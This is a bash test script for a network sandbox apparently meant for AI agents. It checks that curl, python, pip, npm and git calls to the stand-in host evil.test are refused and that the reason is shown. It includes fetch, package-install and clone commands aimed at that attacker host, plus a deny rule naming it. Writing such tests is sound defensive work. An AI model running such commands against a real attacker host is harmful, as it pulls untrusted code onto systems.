#!/usr/bin/env bash
# Denials an agent can read (issue 21): without -v, what an agent sees on
# its terminal when a tool inside airlock run is refused names the
# destination and the reason. Real curl, pip, npm, git and python, each
# against evil.test (denied by every preset), in the lab; -q silences it,
# and a run that refused anything ends with one summary line.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/lib.sh"
need_prog npm git curl
lab_start
P=$SOURCE_ROOT/policies

# try NAME POLICY CMD...: CMD under POLICY, its stderr (and airlock's) in
# $LAB_WORK/NAME.err; the run must fail (evil.test is refused).
try() {
	local name=$1 policy=$2
	shift 2
	if airlock_lab "$policy" -- "$@" >"$LAB_WORK/$name.out" 2>"$LAB_WORK/$name.err"; then
		fail "$name: reaching evil.test succeeded"
	fi
}

# sees NAME WHAT: the agent-visible stderr names evil.test and why, in
# one airlock: line, and the summary comes last.
sees() {
	local name=$1 err
	err=$(cat "$LAB_WORK/$name.err")
	grep -Eq '^airlock: refused evil\.test(:443| \(dns\)).*\((no-rule|denied-by-rule)\)' <<<"$err" ||
		fail "$name: stderr does not name evil.test and the reason: $(tail -n 5 <<<"$err")"
	grep -Eq '^airlock: refused [0-9]+ destinations? \([0-9]+ attempts?\): .*evil\.test' <<<"$err" ||
		fail "$name: no summary line naming evil.test: $(tail -n 3 <<<"$err")"
	echo "ok   $name: $(grep -m1 '^airlock: refused evil' <<<"$err")"
}

try curl "$P/pypi.yaml" curl -sS --max-time 20 https://evil.test/
sees curl
try python "$P/pypi.yaml" python3 -c 'import urllib.request; urllib.request.urlopen("https://evil.test/", timeout=20)'
sees python
try pip "$P/pypi.yaml" python3 -m pip install -q --target "$LAB_WORK/site-evil" evilpkg
sees pip
mkdir -p "$LAB_WORK/npmproj"
try npm "$P/npm.yaml" npm install --no-save --prefix "$LAB_WORK/npmproj" evilnpm
sees npm
try git "$P/github.yaml" git clone -q https://evil.test/org/repo.git "$LAB_WORK/evilrepo"
sees git

# A deny rule's own reason: text reaches the agent on stderr and in the
# proxy's answer (Proxy-Status), the same words.
printf 'version: 1\ninclude: [pypi]\ndeny:\n  - host: evil.test\n    reason: evil.test is the attacker; ask a person\n' >"$LAB_WORK/why.yaml"
if airlock_lab "$LAB_WORK/why.yaml" -- curl -sSv --max-time 20 https://evil.test/ >/dev/null 2>"$LAB_WORK/why.err"; then
	fail "why: reaching evil.test succeeded"
fi
expect_match "the rule's reason on stderr" \
	'^airlock: refused evil\.test:443: .*denied by rule .*why\.yaml:4: evil\.test is the attacker; ask a person \(denied-by-rule\)' \
	"$(cat "$LAB_WORK/why.err")"
expect_match "the rule's reason in Proxy-Status" \
	'Proxy-Status: airlock; error=http_request_denied; details="denied-by-rule: .*evil\.test is the attacker; ask a person"' \
	"$(cat "$LAB_WORK/why.err")"
echo "ok   a deny rule's reason: reaches stderr and Proxy-Status"

# -q: not a word about it (the tool's own error remains).
if airlock_lab "$P/pypi.yaml" -q -- curl -sS --max-time 20 https://evil.test/ >/dev/null 2>"$LAB_WORK/quiet.err"; then
	fail "quiet: reaching evil.test succeeded"
fi
! grep -q '^airlock: refused' "$LAB_WORK/quiet.err" || fail "-q still says: $(cat "$LAB_WORK/quiet.err")"

# An allowed run says nothing of refusals.
airlock_lab "$P/pypi.yaml" -- curl -sS --max-time 20 -o /dev/null https://pypi.org/simple/ 2>"$LAB_WORK/ok.err" ||
	fail "pypi.org under the pypi preset: $(cat "$LAB_WORK/ok.err")"
! grep -q '^airlock: refused' "$LAB_WORK/ok.err" || fail "an allowed run says: $(cat "$LAB_WORK/ok.err")"
expect_canaries_silent "denials"
echo "denials: curl, python, pip, npm and git each see evil.test refused, and why"
